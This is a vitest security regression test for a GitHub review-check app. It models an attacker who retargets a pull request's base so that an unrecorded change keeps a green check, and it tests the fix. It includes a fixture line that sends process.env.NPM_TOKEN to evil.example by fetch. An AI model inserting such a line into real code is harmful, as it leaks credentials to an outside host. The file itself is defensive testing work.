import { afterEach, describe, expect, it } from "vitest";
import { decodeRunRecord } from "../../../src/review/index.js";
import { labeledIssue, pullRequestWebhook, startApp } from "../../app/harness.js";
import { webhookExample } from "../../fixtures/github.js";

/**
 * Attack on the `groundfix/review` check of groundfix's own pull request (target: a green check on a pull request
 * whose diff holds a change no recorded edit made). The evidence rule checks the head against the pull request's
 * merge base (`runReviewCheck`, src/host/github/review-check.ts), but a check run belongs to a COMMIT, not to a pull
 * request, so its verdict holds wherever that commit is a head. Mallory, who can push to the branch and edit the
 * pull request, puts an unrecorded change V on a branch `evil` off the base, rebuilds groundfix's branch as
 * `evil` + the app's own recorded edits, and points the pull request at `evil`: the diff is exactly the record's
 * edits, and the review passes (rightly, for that base). Then she points the pull request back at `master`: the diff
 * GitHub shows is V plus the edits, and the green check on the head still stands.
 *
 * Fixed: a change of the pull request's base (`pull_request.edited` with `changes.base`,
 * src/events/review-trigger.ts) is a review trigger that always makes a fresh check run (the head's earlier check
 * was made against another base), and the review job's key names the base too (src/index.ts), so a retarget that
 * arrives while the push's review runs is not dropped as the same job.
 */
describe("a pull request pointed at another base after its head was reviewed", () => {
  let app: Awaited<ReturnType<typeof startApp>> | undefined;
  afterEach(() => {
    app?.stop();
    app = undefined;
  });
  const BRANCH = "groundfix/issue-1";
  const EVIL = 'fetch("https://evil.example/" + process.env.NPM_TOKEN);\n';

  /** The pull request event `action` for the app's PR with head `head` on base `base` (branch, commit). */
  function event(action: string, head: string, base: { ref: string; sha: string }) {
    const pr = app!.fake.state.pulls[0]!;
    pr.base = base.ref;
    // @octokit/webhooks-examples has no `edited` example: the `synchronize` one with the action changed.
    const payload = pullRequestWebhook("synchronize", pr, { ref: BRANCH, sha: head }, base.sha);
    Object.assign(payload, { action });
    payload.pull_request.base.ref = base.ref;
    return payload;
  }

  /**
   * The app's pull request for issue #1, then mallory's set-up: `evil` = master + V (index.js gains `EVIL`), the
   * groundfix branch = `evil` + src/cart.js as the app's commit has it, and the pull request based on `evil`,
   * reviewed on that push. Returns the heads and the groundfix/review runs on the new head so far.
   */
  async function retargetedPullRequest() {
    app = await startApp();
    await app.receive("issues", labeledIssue());
    const record = decodeRunRecord(app.fake.state.pulls[0]!.body)!;
    const master = { ref: "master", sha: app.fake.baseSha };
    const cart = app.fake.filesOf(BRANCH)!["src/cart.js"]!.content;
    const index = app.fake.filesOf("master")!["index.js"]!.content;
    app.fake.state.refs.set("evil", master.sha);
    const evil = { ref: "evil", sha: app.fake.push("evil", { "index.js": index + EVIL }) };
    app.fake.state.refs.set(BRANCH, evil.sha);
    const head = app.fake.push(BRANCH, { "src/cart.js": cart });
    expect(head).not.toBe(record.head_sha);
    await app.receive("pull_request", event("synchronize", head, evil));
    return { head, master, evil, runs: () => app!.fake.state.checkRuns.filter((r) => r.head_sha === head) };
  }

  it("based on `evil`, the diff is exactly the recorded edits and the review passes (right for it)", async () => {
    const { runs } = await retargetedPullRequest();
    expect(runs().map((r) => r.conclusion)).toEqual(["success"]);
  });

  it("pointed back at master, the head is reviewed again and the unrecorded change fails evidence", async () => {
    const { head, master, evil, runs } = await retargetedPullRequest();
    const edited = event("edited", head, master);
    edited.changes = { base: { ref: { from: evil.ref }, sha: { from: evil.sha } } };
    await app!.receive("pull_request", edited);
    const latest = runs().at(-1)!;
    expect(runs()).toHaveLength(2);
    expect(latest.conclusion).toBe("failure");
    expect(latest.output.summary).toContain("| Evidence | ✖ failed");
    expect(latest.output.summary).toMatch(/index\.js/);
  });

  it("an edit of the pull request that leaves its base alone (title, body) reviews nothing again", async () => {
    const { head, evil, runs } = await retargetedPullRequest();
    const edited = event("edited", head, evil);
    edited.changes = { title: { from: "groundfix: something" } };
    await app!.receive("pull_request", edited);
    expect(runs()).toHaveLength(1);
  });

  /**
   * Open: the same head as the head of a SECOND pull request, into master (opened from another groundfix branch).
   * `reviewPullRequest` (src/host/github/review-handler.ts) skips a head that already carries a groundfix/review check
   * run, whatever base that run was made against, so the second pull request shows the success made for `evil`. A
   * base-keyed skip alone would not do either: with both pull requests open, the check run made last decides for
   * both (one commit, one latest run), and a re-run from the `evil` one turns it green again. Where to start: review
   * a head against every open same-repository pull request that has it as head (`GET commits/{sha}/pulls`) and fail
   * when any of them fails, or refuse (fail) a groundfix head that is the head of more than one open pull request.
   */
  it.fails("a second pull request into master with the same head is reviewed against master and fails", async () => {
    const { head, master, runs } = await retargetedPullRequest();
    app!.fake.state.refs.set("groundfix/issue-1-copy", head);
    const first = app!.fake.state.pulls[0]!;
    const second = { ...first, number: first.number + 1, head: "groundfix/issue-1-copy", base: "master" };
    app!.fake.state.pulls.push(second);
    const opened = pullRequestWebhook("opened", second, { ref: second.head, sha: head }, master.sha);
    await app!.receive("pull_request", opened);
    expect(runs().at(-1)!.conclusion).toBe("failure");
  });
});
